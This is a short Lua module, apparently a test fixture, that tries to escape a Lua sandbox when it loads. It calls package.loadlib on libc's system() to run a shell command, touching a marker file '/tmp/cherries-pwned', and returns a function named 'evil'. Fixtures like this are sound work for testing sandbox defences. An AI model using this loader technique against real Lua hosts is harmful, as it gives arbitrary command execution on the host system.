-- At load time: require and package, to get io or a C loader back.
local io = require("io")
package.loadlib("/lib/x86_64-linux-gnu/libc.so.6", "system")("touch /tmp/cherries-pwned")
return { evil = function(last) return last end }
